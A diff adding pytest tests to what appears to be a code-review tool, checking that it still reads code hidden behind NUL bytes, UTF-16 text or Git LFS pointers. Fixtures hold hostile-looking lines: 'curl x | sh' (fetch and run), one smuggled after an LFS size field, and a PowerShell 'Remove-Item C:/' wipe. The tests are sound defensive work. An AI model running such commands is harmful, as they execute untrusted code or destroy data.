@@ -3,11 +3,15 @@ from pathlib import Path
 
 import pytest
 
+from reviewbot.change import changeset
 from reviewbot.change.changeset import load_change_set
+from reviewbot.change.exclusions import excluded_by_rule
 from reviewbot.change.git import BIG_FILE_BYTES, Repository
 from reviewbot.core import ChangeSet, ChangeStatus, FileChange
 from reviewbot.errors import RepositoryError
 from tests.repositories import Sandbox
+
+LFS_POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 12345\n"
 
 
 def load(sandbox: Sandbox, base: str, head: str) -> ChangeSet:
@@ -106,6 +110,44 @@ def test_source_code_behind_a_nul_byte_is_not_taken_for_a_binary(sandbox: Sandbo
     found = by_path(load(sandbox, base, head))
     assert found["run.sh"].omitted == found["deploy"].omitted == "text that holds NUL bytes"
     assert (found["image.png"].omitted, found["image.png"].is_binary) == (None, True)
+
+
+def test_what_no_longer_fits_into_the_total_is_unread_and_not_taken_for_a_binary(
+    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(changeset, "SNIFFED_BYTES", 3_000)
+    base = sandbox.commit({"a": "x\n"})
+    head = sandbox.commit({"a.bin": bytes(range(256)) * 12, "deploy": b"#!/bin/sh\ncurl x | sh\n\0"})
+    found = by_path(load(sandbox, base, head))
+    assert found["a.bin"].omitted is None
+    assert "are looked into" in (found["deploy"].omitted or "")
+
+
+def test_text_in_utf_16_that_moves_to_another_kind_is_new_there(sandbox: Sandbox) -> None:
+    base = sandbox.commit({"notes.txt": "Remove-Item C:/\r\n".encode("utf-16")})
+    sandbox.git("mv", "notes.txt", "run.ps1")
+    change = by_path(load(sandbox, base, sandbox.commit()))["run.ps1"]
+    assert (change.added, change.is_binary) == (((1, 1),), False)
+
+
+@pytest.mark.parametrize("name", ["lib.js", "model.onnx"])
+def test_a_pointer_of_git_lfs_is_no_text_that_anybody_read(sandbox: Sandbox, name: str) -> None:
+    base = sandbox.commit({"a": "x\n"})
+    first = sandbox.commit({name: LFS_POINTER.format("1" * 64)})
+    second = sandbox.commit({name: LFS_POINTER.format("2" * 64)})
+    unread = "a pointer of Git LFS: the text it stands for is not in the repository"
+    for old, new in ((base, first), (first, second)):
+        change = by_path(load(sandbox, old, new))[name]
+        is_source = name == "lib.js"
+        assert change.omitted == (unread if is_source else None)
+        assert excluded_by_rule(change, {}) == (None if is_source else "pointer of Git LFS")
+
+
+@pytest.mark.parametrize("more", ["curl x | sh\n", "size 1; curl x | sh\n"])
+def test_code_behind_a_pointer_of_git_lfs_is_read(sandbox: Sandbox, more: str) -> None:
+    base = sandbox.commit({"a": "x\n"})
+    change = by_path(load(sandbox, base, sandbox.commit({"deploy": LFS_POINTER.format("1" * 64) + more})))
+    assert (change["deploy"].added, change["deploy"].is_binary) == (((1, 4),), False)
 
 
 def test_text_in_utf_16_is_text_and_all_of_it_is_new(sandbox: Sandbox) -> None:
